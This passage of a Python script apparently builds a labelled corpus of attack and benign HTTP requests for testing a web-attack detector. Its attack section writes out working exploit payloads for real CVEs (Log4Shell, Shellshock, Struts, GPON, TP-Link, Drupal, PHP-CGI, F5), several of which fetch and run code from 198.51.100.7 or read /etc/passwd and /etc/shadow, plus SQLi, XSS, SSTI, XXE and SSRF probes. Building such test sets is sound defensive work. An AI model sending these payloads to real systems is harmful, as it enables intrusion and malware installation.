A("basic-auth-router", "bruteforce", "", "honeypot logs (Mirai HTTP)", req("GET", "/cgi-bin/luci", {"Authorization": "Basic " + base64.b64encode(b"root:xc3511").decode()}), allow="recon")
A("form-login-pma", "bruteforce", "", "honeypot logs (phpMyAdmin brute force)", req("POST", "/phpmyadmin/index.php", FORM, "pma_username=root&pma_password=root&server=1&target=index.php"), allow="recon")
A("form-login-generic", "bruteforce", "", "honeypot logs", req("POST", "/login", FORM, "username=admin&password=password"))
# ------------------------------------------------------------------ scanners
A("scanner-nmap-ua", "scanner", "", "nmap NSE default UA", req("GET", "/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
A("scanner-nmap-probe", "scanner", "", "nmap http-* probes", req("GET", "/nmaplowercheck1690000000", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
A("scanner-nikto", "scanner", "", "nikto default UA", req("GET", "/", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"))
A("scanner-zgrab", "scanner", "", "zgrab2 default UA", req("GET", "/", ua="Mozilla/5.0 zgrab/0.x"))
A("scanner-masscan", "scanner", "", "masscan default UA", req("GET", "/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"))
A("scanner-nuclei", "scanner", "", "nuclei default UA", req("GET", "/", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"))
A("scanner-wpscan", "scanner", "", "WPScan default UA", req("GET", "/", ua="WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)"))
A("scanner-sqlmap", "scanner", "", "sqlmap default UA", req("GET", "/", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"))
A("scanner-l9explore", "scanner", "", "LeakIX l9explore UA", req("GET", "/", ua="Mozilla/5.0 (l9explore/1.2.2; +https://github.com/LeakIX/l9explore)"))
A("scanner-censys", "scanner", "", "Censys UA", req("GET", "/", ua="Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"))
A("scanner-wapiti", "scanner", "", "wapiti default UA", req("GET", "/", ua="Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0 wapiti"))

# ------------------------------------------------------------------ hold-out set (added after the rules were tuned; first run measured in docs/web.md)
A("ho-log4shell-base64", "jndi", L, "GreyNoise Log4Shell tag (Basic/Command/Base64)", req("GET", "/", {"X-Forwarded-For": "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}"}))
A("ho-log4shell-nested-lower-upper", "jndi", L, "Log4Shell bypass words list", req("GET", "/login?user=${${lower:${lower:jndi}}:${lower:rmi}://198.51.100.7/a}"))
A("ho-shellshock-accept", "shellshock", S, "Cloudflare Shellshock report", req("GET", "/cgi-bin/bash", {"Accept": "() { :;}; echo; /bin/cat /etc/shadow"}), allow="cmd_injection,lfi")
A("ho-struts-s2-045-echo", "ognl", "CVE-2017-5638", "Metasploit struts2_content_type_ognl", req("GET", "/orders/3", {"Content-Type": "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test',1+1)}.multipart/form-data"}), allow="cmd_injection")
A("ho-phpunit-md5", "php_code_injection", P, "honeypot logs (Androxgh0st)", req("POST", "/public/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {"Content-Type": "application/x-www-form-urlencoded"}, "<?php echo(md5(\"Hello PHPUnit\"));"), allow="recon")
A("ho-thinkphp-write", "cmd_injection,php_code_injection", T, "honeypot logs", req("GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=file_put_contents&vars[1][]=shell.php&vars[1][]=<?php%20@eval($_POST[1]);?>"), allow="webshell")
A("ho-gpon-wget", "cmd_injection", "CVE-2018-10561,CVE-2018-10562", "honeypot logs (Hajime)", req("POST", "/GponForm/diag_Form?style/", FORM, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=;wget+http://198.51.100.7/g+-O+->/tmp/g;sh+/tmp/g&ipv=0"), allow="exploit")
A("ho-apache-41773-icons", "path_traversal", "CVE-2021-41773", "nuclei http/cves/2021/CVE-2021-41773.yaml", req("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts"), allow="lfi")
A("ho-php-cgi-4577-exe", "php_code_injection", "CVE-2024-4577", "honeypot logs (TellYouThePass)", req("POST", "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp%3A%2F%2Finput", FORM, "<?php system('certutil -urlcache -split -f http://198.51.100.7/x.hta'); ?>"), allow="lfi,cmd_injection")
A("ho-drupal-rce-curl", "php_code_injection", "CVE-2018-7600", "honeypot logs", req("POST", "/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax", FORM, "form_id=user_register_form&_drupal_ajax=1&timezone[a][#lazy_builder][]=passthru&timezone[a][#lazy_builder][][]=curl+198.51.100.7/d|sh"), allow="cmd_injection")
A("ho-f5-1388-cat", "cmd_injection", "CVE-2022-1388", "Horizon3 F5 PoC", req("POST", "/mgmt/tm/util/bash", {"Content-Type": "application/json", "Connection": "close, X-Forwarded-Host", "X-F5-Auth-Token": "x", "Authorization": "Basic YWRtaW46aG9yaXpvbjM="}, '{"command":"run","utilCmdArgs":"-c \'cat /etc/passwd\'"}'), allow="bruteforce,lfi")
A("ho-hikvision-echo", "cmd_injection", "CVE-2021-36260", "nuclei http/cves/2021/CVE-2021-36260.yaml", req("PUT", "/SDK/webLanguage", {"Content-Type": "application/x-www-form-urlencoded"}, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(echo test > webLib/c)</language>"))
A("ho-tplink-archer-busybox", "cmd_injection", "CVE-2023-1389", "honeypot logs (Mirai)", req("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+/tmp;+rm+-rf+shk;+wget+http://198.51.100.7/shk;+chmod+777+shk;+./shk+tplink)"))
A("ho-sqli-error-based", "sqli", "", "sqlmap error-based payload", req("GET", "/product.php?id=1%20AND%20UPDATEXML(1,CONCAT(0x7e,(SELECT%20database()),0x7e),1)"))
A("ho-sqli-or-true-comment", "sqli", "", "OWASP Testing Guide", req("GET", "/user?name=admin%27--%20"))
A("ho-xss-svg-animate", "xss", "", "PortSwigger XSS cheat sheet", req("GET", "/p?q=%3Csvg%3E%3Canimate%20onbegin=alert(1)%20attributeName=x%20dur=1s%3E"))
A("ho-lfi-php-filter-rot13", "lfi", "", "PayloadsAllTheThings File Inclusion", req("GET", "/?view=php://filter/read=string.rot13/resource=config.php"))
A("ho-ssti-twig", "ssti", "", "PayloadsAllTheThings SSTI (Twig)", req("GET", "/?name={{_self.env.registerUndefinedFilterCallback(%22exec%22)}}{{_self.env.getFilter(%22id%22)}}"), allow="cmd_injection")
A("ho-xxe-parameter", "xxe", "", "PayloadsAllTheThings XXE", req("POST", "/soap", {"Content-Type": "text/xml"}, '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "http://198.51.100.7/x.dtd">%dtd;]><data>&send;</data>'), allow="lfi")
A("ho-recon-env-prod", "recon", "", "honeypot logs (Androxgh0st)", req("GET", "/.env.production"))
A("ho-recon-git-index", "recon", "", "honeypot logs", req("GET", "/.git/index"))
A("ho-wp-xmlrpc-listmethods", "wordpress", "", "WPScan xmlrpc checks", req("POST", "/xmlrpc.php", {"Content-Type": "text/xml"}, "<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName><params></params></methodCall>"))
A("ho-cmdi-and", "cmd_injection", "", "PayloadsAllTheThings Command Injection", req("GET", "/nslookup.php?domain=example.com%26%26cat%20/etc/passwd"), allow="lfi")
A("ho-crlf-header", "crlf", "", "PayloadsAllTheThings CRLF Injection", req("GET", "/login?return=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"))
A("ho-ssrf-aws-ipv6", "ssrf", "", "PayloadsAllTheThings SSRF (AWS)", req("GET", "/image?src=http://[fd00:ec2::254]/latest/meta-data/"))

# ------------------------------------------------------------------ wapiti 3.0.4 payloads (captured on loopback against MitsuWeb)
W = "wapiti 3.0.4 (Debian), captured on loopback"
WP = "log=admin&pwd={}&rememberme=forever&wp-submit=Log+In&testcookie=1"
A("wapiti-exec-env", "cmd_injection", "", W, req("POST", "/wp-login.php", FORM, WP.format("a%3Benv%3B")), allow="bruteforce,wordpress")
A("wapiti-exec-ping", "cmd_injection", "", W, req("GET", "/wp-login.php?action=%26ping+-n+25+127.0.0.1%26"), allow="wordpress")
A("wapiti-exec-php-md5", "php_code_injection", "", W, req("POST", "/wp-login.php", FORM, WP.format("%27%3Bexit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F")), allow="bruteforce,wordpress")
A("wapiti-exec-data-uri", "php_code_injection", "", W, req("GET", "/wp-login.php?action=data%3A%3Bbase64%2CPD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA%2FPg%3D%3D"), allow="wordpress")
A("wapiti-file-rfi-nul", "rfi", "", W, req("GET", "/index.php?page=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00"))
A("wapiti-sql-probe", "sqli", "", W, req("POST", "/wp-login.php", FORM, WP.format("Letm3in_%C2%BF%27%22%28")), allow="bruteforce,wordpress")
A("wapiti-xss-ff", "xss", "", W, req("POST", "/wp-login.php", FORM, WP.format("0%FF%3CsCripT%FF%3Ealert%28%2Fwt08d2r15c%2F%29%3C%2FsCripT%FF%3E%FF0")), allow="bruteforce,wordpress")
A("wapiti-exec-sleep", "cmd_injection", "", W, req("GET", "/wp-login.php?action=a%3Bsleep+60%3B"), allow="wordpress")

# ================================================================== benign
src = "browser (captured from Firefox/Chrome requests to a test site)"
CH = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.5", "Accept-Encoding": "gzip, deflate, br", "Connection": "keep-alive", "Upgrade-Insecure-Requests": "1"}
FF = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
SAF = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1"
for i, path in enumerate(["/", "/index.html", "/about", "/contact", "/blog/2023/10/hello-world", "/products?page=2&sort=price",
                          "/search?q=red+shoes", "/search?q=O%27Reilly+books", "/category/news/", "/static/css/main.3f2a1b.css",
                          "/static/js/app.bundle.js", "/images/logo.png", "/favicon.ico", "/robots.txt", "/sitemap.xml",
                          "/fonts/roboto-v30-latin-regular.woff2", "/api/v1/products?limit=20&offset=40", "/docs/getting-started#install",
                          "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", "/account/orders/10234",
                          "/search?q=select+a+plan", "/blog/tags/c%2B%2B", "/downloads/report-2023.pdf", "/en-us/", "/feed.xml",
                          "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E", "/wiki/Union_(set_theory)", "/shop/cart?item=42&qty=3",
                          "/news/what-is-a-script-kiddie", "/faq?topic=password-reset"]):
    ua = [UA, FF, SAF][i % 3]
    B(f"browser-get-{i:02d}", src, req("GET", path, CH, ua=ua))
B("browser-post-contact", src, req("POST", "/contact", dict(CH, **FORM), "name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+a+quote+for+50+units.+Thanks%21", ua=FF))
B("browser-post-search", src, req("POST", "/search", dict(CH, **FORM), "q=running+shoes&size=42&color=blue", ua=UA))
B("browser-post-json", src, req("POST", "/api/cart", {"Content-Type": "application/json", "Accept": "application/json"}, '{"item":42,"qty":1,"note":"gift wrap, please"}', ua=UA))
B("browser-cookie", src, req("GET", "/dashboard", dict(CH, Cookie="_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.sig; theme=dark"), ua=FF))
B("browser-upload-jpeg", src, req("POST", "/profile/avatar", {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
  b'------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="avatar"; filename="me.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n', ua=UA))
B("browser-conditional", src, req("GET", "/static/css/main.css", {"If-None-Match": '"6b090865-267"', "If-Modified-Since": "Fri, 27 Oct 2023 10:00:00 GMT"}, ua=SAF))
B("browser-head", src, req("HEAD", "/", {}, ua=UA))
B("browser-options-cors", src, req("OPTIONS", "/api/v1/items", {"Origin": "https://shop.example.com", "Access-Control-Request-Method": "POST"}, ua=UA))
B("browser-http10", src, req("GET", "/", {}, version="HTTP/1.0", ua=FF))
B("browser-comment", src, req("POST", "/blog/42/comments", FORM, "author=Sam&comment=Great+post%21+I+tried+the+select+%26+union+example+and+it+worked.", ua=FF))
src = "crawler (documented user agents of search engines and monitors)"
for i, (ua, path) in enumerate([
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "/"),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "/robots.txt"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "/sitemap.xml"),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "/blog/"),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "/"),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "/about"),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "/blog/2023/10/hello-world"),
    ("Twitterbot/1.0", "/blog/2023/10/hello-world"),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "/products"),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "/contact"),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "/"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "/health"),
    ("curl/7.88.1", "/"),
    ("Wget/1.21.3", "/downloads/report-2023.pdf"),
    ("Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)", "/"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "/blog/2023/10/hello-world"),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.129 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "/products?page=3"),
    ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers; )", "/feed.xml"),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", "/about"),
    ("Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", "/"),
]):
    B(f"crawler-{i:02d}", src, req("GET", path, {"Accept": "*/*"}, ua=ua))


def write(kind, rows, label_rows):
    d = os.path.join(HERE, kind)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    with open(os.path.join(d, "labels.tsv"), "w") as f:
        f.write("# file\texpected categories\tallowed extra\tCVEs\tsource\n")
        for i, row in enumerate(rows):
            name, raw = row[0], row[-1]
            fn = f"{i:03d}-{name}.http"
            with open(os.path.join(d, fn), "wb") as g:
                g.write(raw)
            f.write("\t".join([fn] + label_rows(row)) + "\n")


write("attacks", attacks, lambda r: [r[1], r[2] or "-", r[3] or "-", r[4]])
write("benign", benign, lambda r: ["-", "-", "-", r[1]])
print(f"{len(attacks)} attack requests, {len(benign)} benign requests")
